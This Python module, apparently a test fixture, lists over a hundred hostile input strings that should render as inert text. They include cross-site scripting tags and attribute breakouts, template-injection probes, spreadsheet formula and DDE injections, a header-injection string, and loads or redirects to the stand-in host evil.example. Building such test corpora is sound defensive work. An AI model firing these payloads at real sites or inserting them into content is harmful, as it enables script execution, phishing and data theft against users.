"""What strangers write where they hope that it is shown: more than a hundred texts that would act.

Each calls `ran()`, sets the title, asks another host, or counts on a template, an attribute or a
spreadsheet. None may be more than text.
"""

from __future__ import annotations

from itertools import product

_TAGS = [
    "<script>ran()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'>",
    "<math><mtext><table><mglyph><style><img src onerror=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()>",
    "<object data=javascript:ran()>",
    "<embed src=//evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><button>Sign in again</button></form>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<a href='javascript:ran()'>a link</a>",
    "<a href='java\tscript:ran()'>a link</a>",
    "<a href='data:text/html,<script>ran()</script>'>a link</a>",
    "<div hx-get=/account hx-trigger=load hx-target=body></div>",
    "<div data-hx-post=/account/sign-out-everywhere data-hx-trigger=load></div>",
    "<div hx-on::load='ran()'></div>",
    "<template shadowrootmode=open><script>ran()</script></template>",
    "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<img src=//evil.example/pixel.png>",
    "<img src=x onerror=ran()>",
    "<button formaction=javascript:ran()>press</button>",
    "<x contenteditable onblur=ran() tabindex=1>",
    "<dialog open onclose=ran()>",
]
_BREAKS = [
    "</title>",
    "</textarea>",
    "</script>",
    '">',
    "'>",
    "-->",
    "]]>",
    "</q></mark></td>",
    "`>",
]
_ACTS = ["<img src=x onerror=ran()>", "<svg onload=ran()>", "<script>ran()</script>"]
_ATTRIBUTES = [
    '" onmouseover="ran()" autofocus="',
    "' onfocus='ran()' autofocus tabindex='1",
    "x onload=ran()",
    '" style="background:url(//evil.example/x)',
    '" hx-get="/account" hx-trigger="load',
    '" href="javascript:ran()',
    '"]); ran(); ([" ',
    "']); ran(); (['",
    '\\"); ran(); //',
    "\u2028ran()\u2029",
]
_TEMPLATES = [
    "{{ 7 * 7 }}{{ config }}",
    "{% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}",
    "%(password)s %s %n %%",
    "{{ ''.__class__ }}{# hidden #}",
]
_CELLS = ['=HYPERLINK("//evil.example")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1"]
_DISGUISED = [
    "\u202egnp.exe\u202c",
    "\u2066<img src=x onerror=ran()>\u2069",
    "＜script＞ran()＜/script＞",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "%3Cscript%3Eran()%3C/script%3E",
    "\ufeff<script>ran()</script>",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "<\u200bscript>ran()</script>",
    "javascript:ran()",
    "javascript&colon;ran()",
    "JaVaScRiPt:ran()//",
    "vbscript:ran()",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "//evil.example/\\@desk",
    "A" * 200 + "<b onclick=ran()>",
    "Z\u0351\u0352\u0353\u0354" * 20,
    "\u0000<script>ran()</script>",
    "\r\nSet-Cookie: baitwatch=mine\r\n\r\n<script>ran()</script>",
]

HOSTILE: tuple[str, ...] = (
    *_TAGS,
    *(opening + act for opening, act in product(_BREAKS, _ACTS)),
    *_ATTRIBUTES,
    *_TEMPLATES,
    *_CELLS,
    *_DISGUISED,
)
